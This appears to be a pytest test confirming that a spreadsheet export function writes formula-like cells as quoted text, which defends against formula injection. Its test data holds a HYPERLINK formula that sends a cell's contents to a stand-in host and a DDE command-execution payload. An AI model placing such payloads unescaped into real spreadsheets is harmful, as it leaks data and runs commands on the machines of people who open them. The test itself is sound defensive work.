"""The operator client's own spreadsheet exports: text that could run as a formula is written as text."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tui.export import write_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看 Details")'


def test_formula_cells_are_written_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MBO_EXPORT_DIR", str(tmp_path))
    rows = [[ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "江岸区", Decimal("-2.50"), 7]]
    path = write_xlsx("ranking-2026.xlsx", {"2026": (["=cmd|' /C calc'!A0", "b", "c", "d", "e", "f", "g", "h", "i"],
                                                     rows)})
    sheet = load_workbook(path)["2026"]
    header = [c.value for c in sheet[1]]
    written = [c for c in sheet[2]]
    assert header[0] == "'=cmd|' /C calc'!A0"
    assert [c.data_type for c in written[:6]] == ["s"] * 6  # text, never "f" (formula)
    # (depending on the XML writer openpyxl uses, a carriage return reads back as itself or as a line feed; the
    # quote in front is what counts)
    assert [c.value.replace("\r", "\n") for c in written[:6]] == ["'" + v.replace("\r", "\n") for v in rows[0][:6]]
    assert [c.value for c in written[6:]] == ["江岸区", -2.5, 7]  # plain text and numbers untouched
